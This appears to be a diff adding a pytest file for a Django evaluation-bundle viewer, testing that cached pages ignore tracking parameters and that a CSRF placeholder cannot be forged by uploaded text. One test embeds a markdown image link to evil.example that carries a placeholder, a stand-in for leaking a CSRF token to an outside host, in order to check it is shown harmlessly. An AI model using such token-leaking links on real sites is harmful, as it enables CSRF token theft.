@@ -1,0 +1,98 @@
+"""No request can make a worker redo or run unbounded work decided by content: parameters that are
+not settings do not reach a kept page's key, uploaded text cannot forge the CSRF placeholder, an
+upload's documents share one budget, highlighting runs bounded and is kept, and the offline copy is
+built once per bundle state."""
+
+import os
+import re
+import secrets
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from django.test import Client
+
+from inspector import services
+from inspector.ingest import store_bundle
+from inspector.presenters import case_url
+from inspector.views import page_cache
+
+ROOT = Path(__file__).resolve().parents[2]
+SUITE = b"tests:\n  - id: a\n    input: first question\n  - id: b\n    input: second question\n"
+
+
+@pytest.fixture
+def bundle(db):
+    stored, _ = store_bundle({"evals/suite.yaml": SUITE}, title="suite")
+    return stored
+
+
+def _never_rendered_again(monkeypatch):
+    monkeypatch.setattr(services, "case_index", lambda *a, **k: pytest.fail("rendered again"))
+    monkeypatch.setattr(services, "outline", lambda *a, **k: pytest.fail("rendered again"))
+
+
+@pytest.mark.parametrize("page", ["case", "bundle"])
+def test_a_parameter_that_is_no_setting_does_not_build_the_page_again(client, bundle, monkeypatch, page):
+    url = case_url(bundle.pk, "evals/suite.yaml", "a") if page == "case" else f"/b/{bundle.pk}/"
+    first = client.get(url)
+    assert first.status_code == 200
+    _never_rendered_again(monkeypatch)
+    for busting in ("?utm_source=1", "?utm_source=2&fbclid=x", "?profile=auto", "?provider=openai-chat",
+                    "?format=json&utm_source=3", "?model="):
+        again = Client().get(url + busting)
+        assert again.status_code == 200 and again["ETag"] == first["ETag"], busting
+        assert "utm_source" not in again.content.decode() and "fbclid" not in again.content.decode()
+
+
+def test_settings_still_make_their_own_page(client, bundle):
+    url = case_url(bundle.pk, "evals/suite.yaml", "a")
+    plain = client.get(url)
+    other = client.get(url + "?provider=anthropic&utm_source=1")
+    assert other.status_code == 200 and other["ETag"] != plain["ETag"]
+    assert client.get(url + "?utm_source=2&provider=anthropic")["ETag"] == other["ETag"]
+    assert client.get(url + "?provider=nonsense").status_code == 400
+
+
+def test_the_bundle_filter_is_still_a_page_of_its_own(client, bundle):
+    everything = client.get(f"/b/{bundle.pk}/").content.decode()
+    filtered = client.get(f"/b/{bundle.pk}/?q=second&utm_source=1").content.decode()
+    assert "first question" in everything or "/a/" in everything
+    assert filtered != everything and 'value="second"' in filtered
+
+
+def test_the_placeholder_is_not_a_fixed_string_an_uploader_could_write():
+    assert re.fullmatch(r"csrf-[0-9a-f]{32}", page_cache.CSRF_PLACEHOLDER)
+    another_process = subprocess.run(
+        [sys.executable, "-c", "import django; django.setup(); "
+         "from inspector.views.page_cache import CSRF_PLACEHOLDER; print(CSRF_PLACEHOLDER)"],
+        capture_output=True, text=True, check=True, cwd=ROOT,
+        env=dict(os.environ, DJANGO_SETTINGS_MODULE="inspector.settings"))
+    assert another_process.stdout.strip() not in ("", page_cache.CSRF_PLACEHOLDER)
+
+
+@pytest.mark.parametrize("door", ["page", "api"])
+def test_uploaded_text_holding_a_placeholder_is_shown_as_written(client, db, door):
+    # The placeholder before this fix, and a guess of the same shape as today's.
+    placeholders = ["csrf-placeholder-7f1c2a9e4b", f"csrf-{secrets.token_hex(16)}"]
+    text = ("tests:\n  - id: a\n    input: '![x](https://evil.example/?t=" + placeholders[0]
+            + ") " + placeholders[1] + "'\n").encode()
+    if door == "page":
+        from django.core.files.uploadedfile import SimpleUploadedFile
+
+        answer = client.post("/", {"files": [SimpleUploadedFile("s.yaml", text)]})
+        assert answer.status_code in (302, 303), answer.content[:300]
+        bundle_id = answer["Location"].strip("/").split("/")[1]
+    else:
+        answer = client.post("/api/bundles", {"files": {"s.yaml": text.decode()}},
+                             content_type="application/json")
+        assert answer.status_code == 201, answer.content[:300]
+        bundle_id = answer.json()["id"]
+    url = case_url(bundle_id, "s.yaml", "a")
+    for _ in range(2):  # built, then answered from the kept page
+        visitor = Client(enforce_csrf_checks=True)
+        page = visitor.get(url).content.decode()
+        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
+        assert f"t={placeholders[0]}) {placeholders[1]}" in page
+        assert page.count(token) == page.count('name="csrfmiddlewaretoken"')
